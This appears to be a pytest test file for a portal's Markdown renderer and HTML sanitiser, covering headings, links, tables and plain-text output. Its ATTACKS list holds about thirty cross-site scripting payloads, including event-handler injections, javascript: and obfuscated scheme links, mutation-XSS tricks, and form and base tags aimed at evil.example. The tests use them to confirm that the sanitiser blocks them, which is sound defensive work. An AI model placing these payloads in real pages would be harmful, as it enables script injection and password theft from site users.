"""What staff write in Markdown becomes safe HTML in the portal’s own look, or plain text."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.domain import markup


def elements(html: str):
    """Give every element of a fragment, as a browser would read it."""
    return [
        element
        for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter()
        if isinstance(element.tag, str) and element.tag != "DOCUMENT_FRAGMENT"
    ]


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("Tell us", '<p class="govuk-body">Tell us</p>'),
        ("# Who we are", '<h2 class="govuk-heading-m">Who we are</h2>'),
        ("### Third", '<h4 class="govuk-heading-s">Third</h4>'),
        ("###### Sixth", '<h6 class="govuk-heading-s">Sixth</h6>'),
        ("**Now** and *then*", '<p class="govuk-body"><strong>Now</strong> and <em>then</em></p>'),
        ("- one", '<ul class="govuk-list govuk-list--bullet">\n<li>one</li>\n</ul>'),
        ("3. three", '<ol start="3" class="govuk-list govuk-list--number">\n<li>three</li>\n</ol>'),
        ("It’s 5 < 6 & so on", '<p class="govuk-body">It’s 5 &lt; 6 &amp; so on</p>'),
        ("", ""),
    ],
)
def test_markdown_comes_out_in_the_portals_look(markdown, html):
    assert markup.render(markdown).strip() == html


@pytest.mark.parametrize(
    ("markdown", "href", "words"),
    [
        ("[our page](/privacy)", "/privacy", "our page"),
        ("[theirs](https://example.org/a?b=1&c=2)", "https://example.org/a?b=1&c=2", "theirs"),
        ("See https://example.org/a.", "https://example.org/a", "https://example.org/a"),
        ("See www.example.org, or ask", "https://www.example.org", "www.example.org"),
        ("Write to help@example.org.", "mailto:help@example.org", "help@example.org"),
        ("[ring us](tel:01632960001)", "tel:01632960001", "ring us"),
    ],
)
def test_links_are_made_and_say_how_they_relate(markdown, href, words):
    (link,) = [element for element in elements(markup.render(markdown)) if element.tag == "a"]
    assert (link.get("href"), link.text) == (href, words)
    assert link.get("class") == "govuk-link"
    assert link.get("rel") == "noopener noreferrer"


@pytest.mark.parametrize(
    "markdown",
    [
        "Send your report.It is free",
        "version 2.0 of form.doc",
        "`https://example.org`",
        "a@b",
        "@me",
    ],
)
def test_what_only_looks_like_an_address_is_left_alone(markdown):
    assert "<a" not in markup.render(markdown)


def test_a_tables_columns_are_headed():
    html = markup.render("|Ward|Reports|\n|-|-:|\n|Cowley|12|")
    heads = [element for element in elements(html) if element.tag == "th"]
    assert [head.get("scope") for head in heads] == ["col", "col"]
    assert "style" not in html


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\u0000script:alert(1))",
    "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://example.org'onclick='alert(1))",
    "![x](https://example.org/pixel.png)",
    "![x](javascript:alert(1))",
    'https://example.org/"onmouseover="alert(1)',
    "www.example.org/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "# <b onclick=alert(1)>x</b>",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<form action='//evil.example'><input name=password></form>",
    "<p style='position:fixed' class='govuk-button'>x</p>",
    "<!--><script>alert(1)</script>-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x]: javascript:alert(1)\n\n[x]",
    "<base href='//evil.example'><meta http-equiv=refresh content='0;url=//evil.example'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_through_the_reader(attack):
    assert_nothing_runs(markup.render(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_each_gate_holds_alone(attack):
    # Were the reader to let HTML by one day, either cleaner behind it must still stop it.
    assert_nothing_runs(markup._cleaner().clean(attack))
    assert_nothing_runs(markup._last_gate(attack))


def assert_nothing_runs(html: str) -> None:
    for element in elements(html):
        assert element.tag in markup.TAGS
        for name, value in element.attrib.items():
            assert name in {"class", "href", "title", "rel", "start", "scope"}, (name, value)
            if name == "href":
                scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", value, re.IGNORECASE)
                assert scheme is None or scheme[1].lower() in markup.SCHEMES, value
        assert element.get("class", "") in {"", *markup.CLASSES.values(), "govuk-link"}


@given(st.text(alphabet="<>\"'&#/\\()[]!*_`=:;@.-ajscriptonlod \n", max_size=120))
def test_no_text_at_all_makes_anything_that_runs(text):
    assert_nothing_runs(markup.render(text))


@given(st.text(max_size=200))
def test_cleaning_twice_changes_nothing(text):
    once = markup.render(text)
    assert markup._last_gate(once) == once


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("# Thank you\n\nWe have **your** report.", "Thank you\n\nWe have your report."),
        ("one\ntwo", "one two"),
        ("one  \ntwo", "one\ntwo"),
        ("Next:\n\n- look\n- act\n\nDone", "Next:\n\n• look\n• act\n\nDone"),
        ("2. look\n3. act", "2. look\n3. act"),
        ("- a\n  - b\n  - c\n- d", "• a\n  • b\n  • c\n• d"),
        ("[our page](https://example.org/a)", "our page (https://example.org/a)"),
        ("<https://example.org/a>", "https://example.org/a"),
        ("[help@example.org](mailto:help@example.org)", "help@example.org"),
        ("|Ward|Reports|\n|-|-|\n|Cowley|12|", "Ward | Reports\n\nCowley | 12"),
        ("`code` & <b>tags</b>", "code & <b>tags</b>"),
        ("a\n\n---\n\nb", "a\n\n---\n\nb"),
        ("```\nas typed\n```", "as typed"),
        ("", ""),
    ],
)
def test_plain_text_keeps_the_words_and_the_addresses(markdown, text):
    assert markup.plain(markdown) == text


@given(st.text(max_size=200))
def test_any_text_has_a_plain_form(text):
    assert isinstance(markup.plain(text), str)
